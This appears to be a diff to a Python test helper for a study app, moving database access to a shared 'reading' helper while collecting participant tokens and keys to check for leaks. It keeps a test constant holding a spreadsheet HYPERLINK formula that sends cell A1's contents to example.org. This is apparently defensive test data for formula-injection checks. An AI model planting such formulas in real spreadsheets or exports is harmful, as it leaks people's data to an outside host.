@@ -7,9 +7,9 @@ from typing import Any
 
 from sqlalchemy import select
 
-from studyapp.database.engine import Database, sqlite_url
 from studyapp.database.tables import StudySession, Trial, Video
 from studyapp.study.folder import StudyFolder
+from tests.support.stored import reading
 
 FORMULA = '=HYPERLINK("http://example.org/?" & A1, "me")'
 
@@ -40,8 +40,7 @@ NAMES = tuple(value for value in SAID.values() if isinstance(value, str))
 
 def secrets_of(folder: StudyFolder) -> set[str]:
     """Return everything by which somebody who reads a table could find or be a participant."""
-    database = Database.open(sqlite_url(folder.responses))
-    with database.reading() as session:
+    with reading(folder.responses) as session:
         found = {
             *session.scalars(select(StudySession.token)),
             *session.scalars(select(StudySession.visit)),
@@ -49,7 +48,6 @@ def secrets_of(folder: StudyFolder) -> set[str]:
             *session.scalars(select(Trial.token)),
             *session.scalars(select(Video.token)),
         }
-    database.close()
     key = folder.pseudonym_key
     return {name for name in found if name} | ({key.read_text().strip()} if key.exists() else set())
 
